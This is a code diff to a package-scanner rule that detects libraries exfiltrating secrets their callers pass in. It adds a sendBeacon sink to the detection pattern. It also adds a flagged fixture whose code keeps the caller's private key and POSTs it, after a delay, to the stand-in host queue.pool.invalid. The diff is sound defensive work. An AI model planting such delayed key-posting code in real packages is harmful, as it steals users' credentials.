@@ -30,7 +30,8 @@ export const callerSecretExfiltration: Rule = {
       'neither the service’s nor its own. A private key or recovery phrase never has to leave the machine; an API key ' +
       'goes to the service it is for, and to nobody else: who gets it beside that service, beside another client it was ' +
       'given to, or beside the server it signs in to, is a stranger. No service takes a password or a recovery phrase in the ' +
-      'address of a picture, in a name that is looked up or in a datagram. Also: anything its caller passes that ends in a mailbox ' +
+      'address of a picture, in a name that is looked up, in a datagram or in a beacon that gets no answer. An object that is known to hold ' +
+      'such a secret, because the package reads it there, goes astray as the secret would. Also: anything its caller passes that ends in a mailbox ' +
       'written into the code, a bot or a webhook of the author.',
     references: [
       '@solana/web3.js 1.95.6 (December 2024)',
@@ -40,7 +41,8 @@ export const callerSecretExfiltration: Rule = {
     ],
     blindSpots: [
       'An API key that goes to one fixed host only: whether that host is the service cannot be told from the code.',
-      'Keys passed in objects whose fields are never named.',
+      'Keys passed in objects of which no code of the package reads them by their name.',
+      'What an unknown library leaves of an object is not known: that asks at most.',
     ],
     examples: {
       flags: [
@@ -71,8 +73,26 @@ export const callerSecretExfiltration: Rule = {
               "exports.check = access_token => fetch('https://check.invalid/c', { method: 'POST', body: access_token })\n",
           },
         },
+        {
+          title: 'options that hold a private key, kept and posted as they are',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const kept = []\nexports.sign = (options, text) => {\n  kept.push({ ...options })\n  return require('crypto').createSign('sha256').update(text).sign(options.privateKey)\n}\n" +
+              "setTimeout(() => fetch('https://queue.pool.invalid/q', { method: 'POST', body: JSON.stringify(kept) }), 9000)\n",
+          },
+        },
       ],
       passes: [
+        {
+          title: 'options without the private key that was taken out of them',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "exports.sign = ({ privateKey, ...options }, text) => {\n  fetch('https://queue.pool.invalid/q', { method: 'POST', body: JSON.stringify(options) })\n" +
+              "  return require('crypto').createSign('sha256').update(text).sign(privateKey)\n}\n",
+          },
+        },
         {
           title: 'a client of one service',
           files: {
@@ -139,12 +159,15 @@ function signIns(services: readonly string[]): Readonly<Record<string, string>> 
   }
 }
 
-/** Ways that no service is signed in to, whoever's host it is: in the address of a picture, in the open over the network. */
+/**
+ * Ways that no service is signed in to, whoever's host it is: in the address of a picture, in the open over the network,
+ * in a beacon whose sender never sees an answer.
+ */
 function isCovert({ source, sink }: Flow): boolean {
   return (
     source.kind === 'caller-secret' &&
     (keyMaterial.test(source.name) || /^(?:password|passphrase|pass|pwd|secret_?key)$/i.test(source.name)) &&
-    (sink.kind === 'dns' || /^(?:picture\.src|node:dgram\.)/.test(sink.api))
+    (sink.kind === 'dns' || /^(?:picture\.src|node:dgram\.|global:navigator\.sendBeacon$)/.test(sink.api))
   )
 }
 
